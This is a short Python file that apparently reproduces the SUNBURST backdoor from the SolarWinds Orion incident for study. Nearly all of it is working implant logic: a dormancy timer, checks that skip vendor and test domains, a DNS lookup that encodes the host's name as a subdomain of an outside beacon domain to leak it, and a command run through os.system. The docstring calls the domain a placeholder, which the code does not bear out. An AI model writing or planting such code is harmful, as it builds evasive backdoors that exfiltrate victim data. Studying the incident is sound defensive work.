"""Incident: SolarWinds Orion SUNBURST, built into releases from March 2020, found December 2020.

A build-time implant in a signed Orion DLL stayed dormant for about two weeks after
installation, refused to run on the vendor's own domains or under analysis tools, and
then beaconed through DNS, encoding the victim's domain as a subdomain of an attacker
domain. (The original was C#; this reproduction keeps the pattern in Python.)
Reference: https://www.mandiant.com/resources/blog/evasive-attacker-leverages-solarwinds-supply-chain-compromises-with-sunburst-backdoor
Reproduction (own code, placeholder domain).
"""

import base64
import datetime
import os
import socket

_INSTALLED = datetime.datetime(2020, 3, 24, tzinfo=datetime.timezone.utc)
_BEACON = "appsync-api.eu-west-1.avsvmcloud.com"


def _dormant() -> bool:
    age = datetime.datetime.now(datetime.timezone.utc) - _INSTALLED
    return age < datetime.timedelta(days=12 + (hash(os.getpid()) % 3))


def _excluded() -> bool:
    domain = socket.getfqdn().lower()
    return domain.endswith(("solarwinds.com", "swdev.local")) or "test" in domain


def update_check() -> None:
    if _dormant() or _excluded():
        return
    victim = base64.b32encode(socket.getfqdn().encode()).decode().rstrip("=").lower()
    try:
        answer = socket.gethostbyname(f"{victim[:32]}.{_BEACON}")
    except OSError:
        return
    if answer.startswith("10."):
        os.system("cmd.exe /c start /b rundll32.exe")
